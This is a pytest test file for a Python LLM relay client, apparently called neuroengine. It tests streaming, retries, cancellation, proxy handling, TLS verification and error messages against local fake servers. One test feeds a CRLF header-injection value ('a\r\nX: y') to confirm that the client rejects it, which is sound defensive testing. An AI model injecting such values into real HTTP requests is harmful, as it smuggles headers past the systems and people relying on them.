def test_an_answer_that_the_relay_refuses_stops_its_iterator(relay, provide, monkeypatch):
    closed, push = threading.Event(), relay.broker.push
    name, _ = provide(endless(closed))
    stream = client_of(relay, name).stream("x")
    next(stream)
    monkeypatch.setattr(relay.broker, "push", lambda service, session, entries: (
        [{"job": entry["job"], "error": "gap", "at": 0} for entry in entries],
        *push(service, session, [])[1:]))
    assert closed.wait(patient(5))
    stream.close()


def test_cancel_stops_a_polled_stream(relay, provide):
    closed = threading.Event()
    name, _ = provide(endless(closed))
    api = client_of(relay, name)
    assert api.request("x", streamkey="s" * 32, gettokens=1)
    api.cancel("s" * 32)
    assert closed.wait(patient(1))


class Endless:
    """An iterator that is no generator."""

    def __init__(self):
        self.closed = threading.Event()

    def __iter__(self):
        return self

    def __next__(self):
        time.sleep(0.01)
        return "x"

    def close(self):
        self.closed.set()


class AsyncEndless(Endless):
    __iter__ = None

    def __aiter__(self):
        return self

    async def __anext__(self):
        await asyncio.sleep(0.01)
        return "x"

    async def aclose(self):
        self.closed.set()


@pytest.mark.parametrize("kind", [Endless, AsyncEndless])
def test_an_iterator_that_nobody_waits_for_is_closed_by_its_method(relay, provide, kind):
    answer = kind()
    name, _ = provide(lambda request: answer)
    stream = client_of(relay, name).stream("x")
    next(stream)
    stream.close()
    assert answer.closed.wait(SOON)


def test_a_provider_whose_session_has_ended_logs_in_again(relay, provide):
    name, _ = provide(lambda request: "x")
    service = relay.broker.find(name)
    first = set(until(lambda: service.sessions))
    relay.broker.close_sessions(service)
    until(lambda: set(service.sessions) - first)
    assert client_of(relay, name).request("hi") == "x"


def test_a_stream_whose_provider_was_lost_is_begun_anew_or_told_at_once(
        relay, hand, monkeypatch):
    def lose(job):
        with relay.broker._lock:
            relay.broker._end_locked(relay.broker._jobs[job["job"]], "failed",
                                     RelayError("provider_lost", "It went away."))
        hand.running.clear()
    stream = client_of(relay, hand.name).stream("x")
    text = in_thread(next, stream)
    first = hand.next_job()
    lose(first)
    second = hand.next_job()
    assert second["job"] != first["job"]
    hand.reply(second, ["seen"])
    assert text() == "seen"
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 60)
    lose(second)
    began = time.monotonic()
    with pytest.raises(NeuroengineError, match="went away"):
        next(stream)
    assert time.monotonic() - began < patient(1)


def test_an_answer_cut_within_its_head_is_asked_for_again():
    heads = [b"HTTP/1.1 200 OK\r\nServer: neuroen", b"HTTP/1.1 200 OK\r\nContent-Le",
             b"HTTP/1.1 200 OK\r\nContent-Length: 14\r\n\r\n{\"reply\":\"hi\"}"]

    def serve():
        for head in heads:
            with listener.accept()[0] as sock:
                sock.recv(65536)
                sock.sendall(head)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=serve, daemon=True).start()
        url = "http://127.0.0.1:%d" % listener.getsockname()[1]
        assert Neuroengine("x", url).request("hi") == "hi"


def test_an_answer_cut_by_a_proxy_that_ends_it_in_good_order_is_asked_for_again(
        answering, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    cut = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"reply\": \"ha"
    server = answering(cut, http_answer({"reply": "whole"}))
    assert Neuroengine("x", server.url).request("hi") == "whole"
    lines = [b'{"at":0,"items":["one "]}\n{"at":1,"ite', b'{"at":1,"items":["two"],"done":true}\n']
    server = answering(*[http_answer(line, kind="application/x-ndjson") for line in lines])
    assert list(Neuroengine("x", server.url).stream("hi")) == ["one ", "two"]


def test_a_stream_that_is_cut_after_its_last_record_is_whole(answering):
    record = b'{"at":0,"items":["all"],"done":true}\n'
    server = answering(b"HTTP/1.1 200 OK\r\nContent-Type: application/x-ndjson\r\n"
                       b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n" % (len(record), record))
    assert list(Neuroengine("x", server.url).stream("hi", tries=1)) == ["all"]


@pytest.mark.parametrize("proxy", [
    "http://[::1", "http://a..b:3128", "http://%s:3128" % ("x" * 70), "http://p:port",
    "socks5://127.0.0.1:9"])
def test_a_proxy_that_is_no_address_is_an_error_in_words(monkeypatch, proxy):
    monkeypatch.setenv("http_proxy", proxy)
    monkeypatch.delenv("no_proxy", raising=False)
    reply = Neuroengine("x", "http://relay.example").request("hi", tries=1)
    assert reply.errorcode == -1 and "cannot be used" in reply
    assert NeuroengineServer("http://relay.example").login("x", "y") == -1


@pytest.mark.parametrize("name", ["a\udcff", None, 5])
def test_a_name_that_is_none_is_an_error_of_the_relay(relay, name):
    assert client_of(relay, name).request("hi", tries=1).errorcode > 0
    assert NeuroengineServer(relay.url).login(name, "y") < 0


def test_a_chunk_of_a_negative_size_is_a_connection_error(answering):
    server = answering(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\nabcde\r\n")
    assert Neuroengine("x", server.url).request("hi", tries=1).errorcode == -1
    assert NeuroengineServer(server.url).login("x", "y") == -1


def test_a_neuroengine_error_can_be_copied_and_pickled():
    error = NeuroengineError(44, "Busy.", "relay_busy", 5.0, True)
    for same in pickle.loads(pickle.dumps(error)), copy.copy(error):
        assert (str(same), vars(same)) == (str(error), vars(error))


def test_request_never_raises_and_stream_and_getmodels_do():
    with contextlib.closing(socket.socket()) as sock:
        sock.bind(("127.0.0.1", 0))
        api = Neuroengine("x", "http://127.0.0.1:%d" % sock.getsockname()[1])
        assert "No relay runs at http://127.0.0.1" in api.request("hi", tries=1)
        for call in (lambda: list(api.stream("hi", tries=1)), api.getModels):
            with pytest.raises(NeuroengineError) as failed:
                call()
            assert failed.value.errorcode == -1
        assert NeuroengineServer(api._transport.base).login("x", "y") == -1


def test_a_reply_is_a_str_that_tells_an_answer_from_an_error(relay, provide):
    name, _ = provide(lambda request: "well")
    reply = client_of(relay, name).request("hi")
    assert isinstance(reply, str) and reply == "well" and reply.upper() == "WELL"
    assert (reply.errorcode, reply.error) == (0, "") and reply.stats["tokens"] == 1
    for same in (pickle.loads(pickle.dumps(reply)), copy.copy(reply)):
        assert same == reply and same.stats == reply.stats
    reply = client_of(relay, "nosuch").request("hi")
    assert (reply.errorcode, reply.error) == (40, "service_unknown")
    assert "getModels() lists" in reply and "GET /api" not in reply


@pytest.mark.parametrize("prompt, params, words", [
    (None, {}, "The prompt is None"), (b"x", {}, "decode"), (5, {}, "The prompt is int"),
    ({"role": "user"}, {}, "The prompt is dict"), ("x", {"tries": "many"}, "tries"),
    ("x", {"temperature": float("nan")}, "JSON"), ("x", {"own": {1}}, "JSON"),
    ("x", {"stream": True}, "use stream"), ([{"role": b""}], {}, "JSON")])
def test_what_cannot_be_sent_is_an_error_in_words(relay, prompt, params, words):
    reply = client_of(relay, "any").request(prompt, **params)
    assert words in reply and reply.errorcode == 10 and reply.error == "invalid_request"


class Answering:
    """A server that answers each request with the next of some HTTP responses, and then
    with the last for ever."""

    def __init__(self, *responses):
        self.responses, self.asked = list(responses), []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = "http://127.0.0.1:%d" % self.listener.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        with contextlib.suppress(OSError):
            while True:
                with self.listener.accept()[0] as sock:
                    data = b""
                    while b"\r\n\r\n" not in data:
                        data += sock.recv(1 << 20)
                    head, _, body = data.partition(b"\r\n\r\n")
                    self.asked.append((head.decode(), body))
                    sock.sendall(self.responses[0])
                    if len(self.responses) > 1:
                        self.responses.pop(0)

    def prompts(self):
        return [json.loads(body) for _, body in self.asked if b'"message"' in body]


def http_answer(body, status=200, kind="application/json", **headers):
    headers = "".join("%s: %s\r\n" % (name.replace("_", "-"), value)
                      for name, value in headers.items())
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    return b"HTTP/1.1 %d X\r\nContent-Type: %s\r\nContent-Length: %d\r\n%s\r\n%s" % (
        status, kind.encode(), len(body), headers.encode(), body)


@pytest.fixture
def answering():
    servers = []

    def start(*responses):
        servers.append(Answering(*responses))
        return servers[-1]
    yield start
    for server in servers:
        server.listener.close()


@pytest.mark.parametrize("body, status", [
    ([1], 200), (None, 200), ("x", 200), ({}, 200), ({"reply": 5}, 200), (b"{", 200),
    (b"", 200), (b"[" * 9999, 200), ({"reply": "no", "errorcode": "many"}, 400),
    ({"reply": ["no"], "errorcode": [1]}, 400), (b'{"reply":"no","errorcode":1e999}', 200),
    ({"error": ["x"]}, 404), ({"error": {"message": {}, "code": []}}, 500), (b"\xff", 502)])
def test_what_no_relay_answers_is_an_error_and_never_raises(answering, body, status):
    api = Neuroengine("x", answering(http_answer(body, status)).url)
    reply = api.request("hi", tries=1)
    assert reply and reply.errorcode == -1
    for call in (api.getModels, lambda: list(api.stream("hi", tries=1))):
        if (call, body) != (api.getModels, [1]):
            with pytest.raises(NeuroengineError):
                call()


@pytest.mark.parametrize("lines", [
    b"[]\n", b'{"items": 5}\n', b'{"items": ["x"], "at": 7}\n', b'{"at": 0, "items": ["x"]', b"5\n",
    b'{"items": ["x"], "at": 7}\n{"done": true}\n'])
def test_a_stream_that_cannot_be_understood_raises_and_ends(answering, lines):
    server = answering(http_answer(lines, kind="application/x-ndjson"))
    with pytest.raises(NeuroengineError):
        list(Neuroengine("x", server.url).stream("hi", tries=2))
    assert len(server.prompts()) <= 2
    assert len(server.asked) - len(server.prompts()) <= 1 and not any(
        b"cancel" in body for _, body in server.asked)         # there is nothing to stop


def test_a_line_of_a_stream_has_a_bound(answering, monkeypatch):
    monkeypatch.setattr(neuroengine, "MAX_LINE_BYTES", 1000)
    line = b'{"at": 0, "items": ["%s"]}\n{"done": true}\n' % (b"x" * 200000)
    server = answering(http_answer(line, kind="application/x-ndjson"))
    with pytest.raises(NeuroengineError, match="line is too long"):
        list(Neuroengine("x", server.url).stream("hi", tries=1))


def test_items_that_a_relay_sends_again_are_dropped(answering):
    first = b'{"at": 0, "items": ["a", "b"]}\n'
    again = b'{"at": 1, "items": ["b", "c"]}\n{"at": 0, "items": ["a"]}\n{"done": true}\n'
    server = answering(http_answer(first, kind="application/x-ndjson"),
                       http_answer(again, kind="application/x-ndjson"))
    assert "".join(Neuroengine("x", server.url).stream("hi")) == "abc"
    assert [prompt["at"] for prompt in server.prompts()] == [0, 2]


@pytest.mark.parametrize("text, seconds", [
    ("3", 3), ("0.5", 0.5), ("-1", None), ("nan", None), ("1e999", None), ("inf", None),
    ("Wed, 21 Oct 2026 07:28:00 GMT", None), ("", None), (None, None), ("99999999", 99999999)])
def test_a_retry_after_is_a_length_of_time_or_nothing(text, seconds):
    assert neuroengine.pause_of({"Retry-After": text}) == seconds
    assert 0 <= neuroengine.pause_before(0, seconds) <= 61


def test_a_relay_that_asks_to_wait_for_years_is_not_waited_for(answering):
    server = answering(http_answer({"reply": "Busy.", "errorcode": 44, "error": "relay_busy"},
                                   503, Retry_After="99999999"))
    assert Neuroengine("x", server.url).request("hi") == "Busy."
    assert len(server.asked) == 1


def lost(**more):
    return dict({"reply": "Lost.", "errorcode": 51, "error": "provider_lost"}, **more)


def test_a_prompt_that_lost_its_providers_twice_is_not_sent_again(answering, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    for answer, kind in ((lost(), "application/json"), (lost(), "application/x-ndjson")):
        for more, times in (({}, 2), ({"retry": False}, 1)):
            server = answering(http_answer(dict(answer, **more), kind=kind))
            api = Neuroengine("x", server.url)
            if kind.endswith("ndjson"):
                with pytest.raises(NeuroengineError, match="Lost"):
                    list(api.stream("hi"))
            else:
                assert api.request("hi").error == "provider_lost"
            assert len(server.prompts()) == times


def test_a_service_whose_provider_has_just_left_is_asked_once_more(answering, monkeypatch):
    monkeypatch.setattr(neuroengine.Call, "pause", lambda *_: None)
    gone = {"reply": "No provider of x is connected. Send it.", "errorcode": 41,
            "error": "service_offline", "retry": True}
    server, told = answering(http_answer(gone, 503, Retry_After=5)), []
    api = Neuroengine("x", server.url)
    with pytest.raises(NeuroengineError):
        for kind, value in api._events("hi", {}):
            told.append((kind, value[0].name, value[1] > 5))
    assert told == [("retry", "service_offline", True)] and len(server.prompts()) == 2
    assert api.request("hi").error == "service_offline" and len(server.prompts()) == 4


def test_heartbeats_and_queue_news_do_not_renew_the_tries(answering, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    server = answering(http_answer(b'{}\n{"queue": {"position": 1, "waiting": 1}}\n{}\n',
                                   kind="application/x-ndjson"))
    with pytest.raises(NeuroengineError, match="cut"):
        list(Neuroengine("x", server.url).stream("hi", tries=3))
    assert len(server.prompts()) == 3


def test_a_stream_that_the_relay_has_forgotten_is_told_of_no_key(answering):
    server = answering(http_answer({"errorcode": 47, "error": "stream_unknown", "retry": False,
                                    "reply": "Send the prompt again with a new key."}, 404))
    with pytest.raises(NeuroengineError, match="Send the prompt again") as failed:
        list(Neuroengine("x", server.url).stream("hi"))
    assert "new key" not in str(failed.value)


def test_a_polled_stream_that_lost_its_provider_is_not_asked_for_again(answering):
    server = answering(http_answer({"errorcode": 51, "error": "provider_lost", "retry": True,
                                    "reply": "It went away."}, 502))
    reply = Neuroengine("x", server.url).request("hi", streamkey="k" * 20)
    assert reply.error == "provider_lost" and len(server.prompts()) == 1


def test_each_item_renews_the_tries(answering, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    server = answering(*[http_answer(b'{"at": %d, "items": ["%d"]}\n' % (n, n) + b'{"done": true}\n'
                                     * (n == 4), kind="application/x-ndjson") for n in range(5)])
    assert "".join(Neuroengine("x", server.url).stream("hi", tries=2)) == "01234"


def test_a_prompt_that_waits_without_end_is_given_up(answering, monkeypatch):
    monkeypatch.setattr(neuroengine, "ANSWER_SECONDS", 0.0)
    server = answering(http_answer({"errorcode": 46, "error": "still_waiting",
                                    "reply": "No token yet."}, 202))
    reply = in_thread(Neuroengine("x", server.url).request, "hi", streamkey="k" * 20)()
    assert reply.error == "still_waiting" and len(server.prompts()) == 1


def test_a_slow_first_token_is_waited_for_without_further_tries(answering):
    server = answering(http_answer({"errorcode": 46, "error": "still_waiting",
                                    "reply": "No token yet."}, 202),
                       http_answer({"reply": "x", "errorcode": 0, "at": 1}))
    assert Neuroengine("x", server.url).request("hi", streamkey="k" * 20, tries=1) == "x"


def test_pauses_between_tries_grow_up_to_a_bound_and_are_not_all_the_same():
    pauses = [[neuroengine.pause_before(n) for _ in range(50)] for n in range(12)]
    assert all(len(set(some)) > 1 for some in pauses)
    assert 0 < max(pauses[0]) < min(pauses[3]) <= max(map(max, pauses)) <= 8


def test_a_pause_ends_with_its_prompt():
    call = neuroengine.Call()
    call.cancel()
    pausing = threading.Thread(target=call.pause, args=(10**6,), daemon=True)
    pausing.start()
    pausing.join(SOON)
    assert not pausing.is_alive()


def test_the_finish_reason_and_the_usage_are_those_of_the_answer(answering):
    stats = {"finish_reason": "length", "usage": {"completion_tokens": 3}}
    server = answering(http_answer({"reply": "abc", "errorcode": 0, "stats": stats}))
    reply = Neuroengine("x", server.url).request("hi")
    assert (reply.finish_reason, reply.usage) == ("length", {"completion_tokens": 3})


def test_an_llm_server_in_the_relays_place_is_recognised():
    fake = type("Fake", (FakeLLM,), {"got": [], "script": []})
    with serving(fake) as url:
        api = Neuroengine("x", url)
        assert "is an LLM server, not a relay" in api.request("hi", tries=1)
        with pytest.raises(NeuroengineError, match="LLM server"):
            api.getModels()


def test_200_gathered_requests_all_run_at_once(relay, provide):
    barrier = threading.Barrier(200, timeout=patient(30))

    def answer(request):
        barrier.wait()
        return request["message"]
    name, _ = provide(answer, workers=200)
    api = client_of(relay, name)

    async def gather():
        return await asyncio.gather(*(api.arequest("%d" % n) for n in range(200)))
    assert asyncio.run(gather()) == ["%d" % n for n in range(200)]


def test_astream_yields_and_a_cancelled_task_closes_the_providers_iterator(relay, provide):
    closed, texts = threading.Event(), []
    name, _ = provide(endless(closed))

    async def consume():
        async for text in client_of(relay, name).astream("hi"):
            texts.append(text)

    async def run():
        task = asyncio.ensure_future(consume())
        while not texts:
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
    asyncio.run(run())
    assert closed.wait(patient(1))


def test_astream_raises_what_stream_raises(relay):
    async def run():
        with pytest.raises(NeuroengineError, match="no service"):
            async for _ in client_of(relay, "nosuch").astream("hi"):
                pass
    asyncio.run(run())


def test_a_cancelled_arequest_closes_the_providers_iterator(relay, provide):
    closed, got = threading.Event(), []
    name, _ = provide(lambda request: got.append(request) or endless(closed)(request))

    async def run():
        task = asyncio.ensure_future(client_of(relay, name).arequest("hi"))
        while not got:
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
    asyncio.run(run())
    assert closed.wait(patient(1))


def test_a_request_that_ctrl_c_interrupts_is_cancelled(relay, provide, monkeypatch):
    api, stopped = client_of(relay, "any"), []
    monkeypatch.setattr(api, "_stop", stopped.append)

    def interrupted(*args, idempotency_key, **more):
        stopped.append(idempotency_key)
        raise KeyboardInterrupt
    monkeypatch.setattr(api, "_send", interrupted)
    with pytest.raises(KeyboardInterrupt):
        api.request("hi")
    assert len(stopped) == 2 and stopped[0] == stopped[1]


def test_a_receipt_has_the_finish_reason_whole_and_streamed(relay, provide):
    name, _ = provide(lambda request: ["cut", {"finish_reason": "length"}])
    api = client_of(relay, name)
    assert api.request("hi").finish_reason == "length"
    assert [value["finish_reason"] for kind, value in api._events("hi", {})
            if kind == "stats"] == ["length"]
    texts = [api.request("hi", streamkey="f" * 32) for _ in range(2)]
    assert (texts[0], texts[1], texts[1].finish_reason) == ("cut", "", "length")


def test_map_yields_replies_in_order_and_runs_so_many_at_once(relay, provide):
    running, most, lock = [], [], threading.Lock()

    def answer(request):
        with lock:
            running.append(1)
            most.append(len(running))
        if request["message"] == "0":
            until(lambda: max(most) == 3)
        time.sleep(0.02)
        with lock:
            running.pop()
        return request["message"]
    name, _ = provide(answer, workers=9)
    api = client_of(relay, name)
    replies = list(api.map((str(n) if n != 5 else None for n in range(20)), at_once=3))
    assert [r for r in replies if not r.errorcode] == [str(n) for n in range(20) if n != 5]
    assert replies[5].error == "invalid_request" and max(most) == 3


def test_map_takes_no_more_prompts_than_it_needs_and_ends_when_closed(relay, provide):
    name, _ = provide(lambda request: "x", workers=2)
    taken = []

    def prompts():
        for n in itertools.count():
            taken.append(n)
            yield "prompt %d" % n
    batch = neuroengine.Batch(client_of(relay, name), prompts(), 2, {})
    replies = batch.replies()
    assert next(replies) == "x"
    until(lambda: batch._room._waiters)    # for someone to take replies
    assert len(taken) == 2 * neuroengine.AHEAD + 1
    replies.close()

    def broken():
        yield "one"
        raise KeyError("ours")
    with pytest.raises(TypeError, match="pass a list"):
        client_of(relay, name).map("one prompt")
    replies = client_of(relay, name).map(broken())
    assert next(replies) == "x"
    with pytest.raises(KeyError):
        next(replies)


def test_map_raises_what_request_raises(relay):
    def ask():
        with pytest.raises(TypeError, match="prompt"):
            list(client_of(relay, "x").map(["hi"] * 20, prompt="twice"))
        return True
    assert in_thread(ask)()


@pytest.mark.parametrize("at_once", [1, 3])
def test_map_raises_whatever_its_prompts_raise(relay, at_once):
    def prompts():
        yield "one"
        raise Timeout

    def ask():
        with pytest.raises(Timeout):
            list(client_of(relay, "x").map(prompts(), at_once=at_once))
        return True
    assert in_thread(ask)()


def test_arequest_raises_whatever_its_thread_raises(monkeypatch):
    def raise_timeout(*args, **more):
        raise Timeout
    api = Neuroengine("x", "http://127.0.0.1:1")
    monkeypatch.setattr(api, "request", raise_timeout)

    async def ask():
        with pytest.raises(Timeout):
            await asyncio.wait_for(api.arequest("hi"), SOON)
    asyncio.run(ask())


def test_closing_map_waits_until_the_relay_was_told(relay, provide, monkeypatch):
    """The program may end at once, and its threads with it."""
    monkeypatch.setattr(neuroengine, "LEAVE_SECONDS", SOON)
    told, begun = [], []
    name, _ = provide(lambda request: "x" if request["message"] == "short" else
                      begun.append(1) or Endless(), workers=3)
    api = client_of(relay, name)
    monkeypatch.setattr(api, "_stop", lambda key: time.sleep(0.1) or told.append(key))
    replies = api.map(["short", "long", "long"])
    assert next(replies) == "x" and until(lambda: len(begun) == 2)
    replies.close()
    assert len(told) == 2


def test_map_may_be_closed_by_a_destructor_in_one_of_its_own_threads():
    dropped, ended = threading.Event(), threading.Event()

    class Client:
        def request(self, prompt, _call):
            assert prompt == 0 or dropped.wait(SOON)
            return neuroengine.Reply("x")

    class Calls(dict):
        def __setitem__(self, number, call):   # the lock is held here
            super().__setitem__(number, call)
            if number == 2:
                holder.pop().close()       # as the garbage collector does
                ended.set()
    batch = neuroengine.Batch(Client(), range(100), 1, {})
    batch._calls, holder = Calls(), [batch.replies()]
    assert next(holder[0]) == "x"
    dropped.set()
    assert ended.wait(SOON) and in_thread(batch._lock.acquire)()


def test_closing_map_closes_the_iterators_of_what_is_under_way(relay, provide):
    answer, begun = Endless(), threading.Event()
    name, _ = provide(lambda request: "x" if request["message"] == "short" else
                      begun.set() or answer, workers=2)
    replies = client_of(relay, name).map(["short", "long"])
    assert next(replies) == "x" and begun.wait(SOON)
    replies.close()
    assert answer.closed.wait(SOON)


def test_a_client_forgets_streams_that_ended_or_are_read_no_more_and_no_others(monkeypatch):
    monkeypatch.setattr(neuroengine, "REMEMBERED_STREAMS", 3)
    cursors = neuroengine.Cursors()
    for n in range(9):
        cursors.put("read", "hi", n)
        cursors.put("ended %d" % n, "hi", None)
        cursors.put("under way %d" % n, "hi", 1)
    assert cursors.get("read", "hi") == 8 and cursors.get("under way 0", "hi") == 1
    assert cursors.get("ended 8", "hi") is None and cursors.get("ended 5", "hi") == 0
    assert cursors.get("ended 8", "another prompt") == 0
    monkeypatch.setattr(neuroengine, "ANSWER_SECONDS", -1)
    cursors.put("new", "hi", 1)
    assert cursors.get("read", "hi") == 0


def test_a_stream_goes_on_after_a_cancelled_request_for_its_next_tokens(relay, hand):
    api, key = client_of(relay, hand.name), os.urandom(16).hex()

    async def cancel():
        asking = asyncio.ensure_future(api.arequest("hi", streamkey=key))
        job = await asyncio.get_running_loop().run_in_executor(None, hand.next_job)
        asking.cancel()                    # as asyncio.wait_for does
        with pytest.raises(asyncio.CancelledError):
            await asking
        return job
    hand.reply(asyncio.run(cancel()), ["x"], done=True)
    assert in_thread(api.request, "hi", streamkey=key)() == "x"


@pytest.mark.parametrize("early", [False, True])
def test_tokens_that_came_as_their_call_was_cancelled_come_again(relay, hand, early):
    api, key, call = client_of(relay, hand.name), os.urandom(16).hex(), neuroengine.Call()
    reply = in_thread(api.request, "hi", streamkey=key, _call=call)
    job = hand.next_job()
    call.cancelled = early                 # too late to stop it
    hand.reply(job, ["x"], done=True)
    assert reply() == "x"
    if not early:
        call.cancel()
    assert in_thread(api.request, "hi", streamkey=key)() == "x"


def test_cancelling_a_prompt_that_waits_for_its_next_try_leaves_others_alone(answering):
    busy = http_answer({"reply": "Busy.", "errorcode": 44, "error": "relay_busy"}, 503)
    api, call = Neuroengine("x", answering(busy).url), neuroengine.Call()
    api.request("hi", tries=1, _call=call)
    [connection] = api._transport._free
    call.cancel()
    assert not connection.aborted and api._transport._kept() is connection


def test_a_forked_process_shares_no_connection_with_its_parent(answering, monkeypatch):
    transport = neuroengine.Transport(answering(http_answer({})).url)
    transport.call("GET", "/")
    assert transport._free
    monkeypatch.setattr(os, "getpid", lambda: -1)
    assert transport._kept() is None


def test_a_wrong_access_key_and_none_are_told_apart(relay, hand):
    relay.broker.find(hand.name).private = True
    try:
        assert "is private" in client_of(relay, hand.name).request("hi")
        for key in ("ne_wrong", "ne_wrong\n"):
            reply = client_of(relay, hand.name, key=key).request("hi")
            assert "key is not valid" in reply and reply.errorcode == 30
        assert "one line" in client_of(relay, hand.name, key="a\nb").request("hi")
    finally:
        relay.broker.find(hand.name).private = False


@pytest.mark.parametrize("text, url", [
    ("8085", "http://127.0.0.1:8085"), ("localhost:8085/v1/chat/completions",
                                        "http://localhost:8085"),
    ("https://host/v1", "https://host")])
def test_an_llm_server_is_named_as_people_do(text, url):
    assert neuroengine.upstream_url(text) == url


class Pieces(list):
    """An http.client response whose body comes in these pieces."""

    status, headers, will_close = 200, {}, True

    def read1(self, size):
        return self.pop(0) if self else b""

    def isclosed(self):
        return True

    def close(self):
        pass


def lines_of(pieces):
    return list(neuroengine.Response(neuroengine.Connection(Pieces()), Pieces(pieces), None,
                                     neuroengine.Call()).lines())


def test_a_clients_lines_are_the_same_however_they_come():
    data, chance = b"a\n\nbcd\nef", random.Random(1)
    for _ in range(100):
        assert lines_of(filter(None, pieces_of(data, chance.random()))) == [
            (b"a", True), (b"", True), (b"bcd", True), (b"ef", False)]


def test_a_long_line_takes_a_client_no_longer_than_several_short_ones():
    began = time.monotonic()               # when each piece was joined with all before: minutes
    assert lines_of([b"x" * 4096] * 5000 + [b"\n"]) == [(b"x" * 4096 * 5000, True)]
    assert time.monotonic() - began < patient(5)


def test_a_wait_is_done_in_slices_up_to_its_timeout(monkeypatch):
    monkeypatch.setattr(neuroengine, "SLICE_SECONDS", 0.02)
    here, there = socket.socketpair()
    with here, there:
        incoming = neuroengine.Incoming(here, 0.1).makefile("rb")
        began = time.monotonic()
        with pytest.raises(socket.timeout):
            incoming.read(1)
        assert 0.1 <= time.monotonic() - began < patient(2)
        threading.Timer(0.1, there.sendall, [b"late"]).start()
        assert neuroengine.Incoming(here, SOON).makefile("rb").read(4) == b"late"


def test_a_proxy_is_used_but_never_for_loopback(answering, monkeypatch, relay):
    proxy = answering(http_answer({"reply": "by proxy"}))
    for name in ("http_proxy", "https_proxy"):
        monkeypatch.setenv(name, proxy.url.replace("//", "//me:secret@"))
    monkeypatch.delenv("no_proxy", raising=False)
    assert Neuroengine("x", "http://relay.example").request("hi") == "by proxy"
    assert Neuroengine("x", "https://relay.example").request("hi", tries=1).errorcode == -1
    assert client_of(relay, "nosuch").request("hi").error == "service_unknown"
    plain, secure = [head for head, _ in proxy.asked]
    assert plain.startswith("POST http://relay.example/x HTTP/1.1")
    assert secure.startswith("CONNECT relay.example:443 ")
    for head in (plain, secure):
        assert "Basic bWU6c2VjcmV0" in head


@pytest.mark.parametrize("proxy, no_proxy, used", [
    ("http://proxy.example", "", "proxy.example:80"), ("[::1]:3128", "", "[::1]:3128"),
    ("http://me@proxy.example:3128", "2001:db8::1", None)])
def test_a_proxy_has_a_port_and_is_not_used_for_the_hosts_of_no_proxy(
        monkeypatch, proxy, no_proxy, used):
    monkeypatch.setenv("https_proxy", proxy)
    monkeypatch.setenv("no_proxy", no_proxy)
    assert neuroengine.Transport("https://[2001:db8::1]:8443").where()[3] == used


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_a_certificate_and_its_name_are_verified_unless_that_is_switched_off(tmp_path):
    cert, key = neuroengine_server.self_signed(str(tmp_path))
    for verify_ssl in (True, 1, None, cert):
        context = neuroengine.tls_context(verify_ssl)
        assert context.verify_mode == ssl.CERT_REQUIRED and context.check_hostname
    with running_relay(tls=neuroengine_server.Certificate(cert, key)) as own:
        errors = [Neuroengine("x", own.url, verify_ssl=verify_ssl).request("hi", tries=1).error
                  for verify_ssl in (True, cert, False)]
    assert errors == ["certificate", "service_unknown", "service_unknown"]


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_a_certificate_for_another_name_is_not_told_as_one_that_is_not_trusted(
        tmp_path, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "own_names", lambda more: ["box"])
    cert, key = neuroengine_server.self_signed(str(tmp_path))
    with running_relay(tls=neuroengine_server.Certificate(cert, key)) as own:
        reply = Neuroengine("x", own.url, verify_ssl=cert).request("hi", tries=1)
    assert reply.error == "certificate" and "doctor" in reply
    assert "The certificate of %s is for other names" % own.url in reply


def test_plain_http_at_a_relay_with_tls_is_told_in_words(answering):
    server = answering(http_answer({"errorcode": 31, "error": "forbidden", "reply":
                                    "This is not https: use https, at port 8443."}, 403))
    reply = Neuroengine("x", server.url, key="k").request("hi")
    assert reply == "%s speaks TLS: write %s." % (server.url, server.url.replace("http", "https"))


def test_a_provider_is_told_in_pythons_words_why_it_cannot_log_in(relay, hand):
    server = NeuroengineServer(relay.url)
    for key, words in (("", "needs the service key"), ("no", "not the service key")):
        assert server.login(hand.name, key) == -30
        assert words in server.error and "login()" in server.error and "Bearer" not in server.error
    assert server.login(hand.name, hand.key) == 0 and server.error == ""


def test_nothing_can_be_put_into_a_request_by_a_header(relay):
    transport = neuroengine.Transport(relay.url)
    for value in ("a\r\nX: y", "snow \u2603"):
        with pytest.raises(NeuroengineError, match="cannot hold"):
            transport.open("GET", "/healthz", beta=value)


def test_the_words_say_that_the_variable_is_not_set(monkeypatch):
    error = neuroengine.no_connection("https://api.neuroengine.ai:443", OSError(111, "refused"))
    monkeypatch.setenv("NEUROENGINE_SERVER", "")
    for interface in (neuroengine.PYTHON, neuroengine.COMMAND_LINE):
        words = neuroengine.advise(error, interface).message
        assert words.startswith("The environment variable NEUROENGINE_SERVER") and "Set it" in words


def test_every_error_has_advice_in_words_of_the_interface():
    names = {"service": "S", "relay": "R", "source": "F"}
    for row in neuroengine.ADVICE:
        error = NeuroengineError(1, "It happened. Do POST /x.", row)
        python = neuroengine.advise(error, neuroengine.PYTHON, **names).message
        shell = neuroengine.advise(error, neuroengine.COMMAND_LINE, **names).message
        for words in (python, shell):
            assert not re.search(r"GET|POST|Bearer|\{", words) and words.endswith((".", "?"))
        commands = re.compile("`[^`]*`")
        assert "--" not in commands.sub("", python)
        assert "verify_ssl" not in shell and "()" not in shell


def test_login_tells_a_wrong_key_by_a_negative_number(relay, hand):
    server = NeuroengineServer(relay.url)
    for key in ("wrong", "two\nlines", "\u2603"):
        assert server.login(hand.name, key) == -30
